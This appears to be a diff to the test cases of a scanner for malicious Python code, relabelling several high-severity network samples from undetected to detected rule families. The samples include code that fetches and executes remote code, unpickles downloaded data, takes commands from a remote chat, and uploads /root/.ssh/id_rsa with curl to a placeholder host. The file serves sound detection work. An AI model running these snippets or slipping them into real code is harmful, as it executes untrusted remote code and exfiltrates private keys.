@@ -52,8 +52,7 @@ NETWORK = (
     Case("eval of what subprocess curl gives", HIGH, """
         import subprocess
         exec(subprocess.check_output(["curl", "-s", "https://example.invalid/a"]))
-    """,
-         unseen="what a program fetches for the code that executes it is no chain for FETCH-001"),
+    """, family="FETCH"),
     Case("fetched, decoded, executed", HIGH, """
         import base64, urllib.request
         exec(base64.b64decode(urllib.request.urlopen("https://example.invalid/a").read()))
@@ -80,8 +79,7 @@ NETWORK = (
     Case("fetched as a pickle", HIGH, """
         import pickle, requests
         pickle.loads(requests.get("https://example.invalid/a").content)
-    """,
-         unseen="what is fetched and unpickled is no chain for any rule"),
+    """, family="FETCH"),
     Case("commands from a chat", HIGH, """
         import requests, subprocess
         while True:
@@ -159,8 +157,7 @@ NETWORK = (
     Case("a file by curl", HIGH, """
         import subprocess
         subprocess.run(["curl", "-F", "f=@/root/.ssh/id_rsa", "https://example.invalid/a"])
-    """,
-         unseen="a file that curl is told to send is no chain for EXFIL-001"),
+    """, family="EXFIL"),
     Case("a beacon at install", HIGH, """
         import getpass, platform, socket, urllib.request
         from setuptools import setup
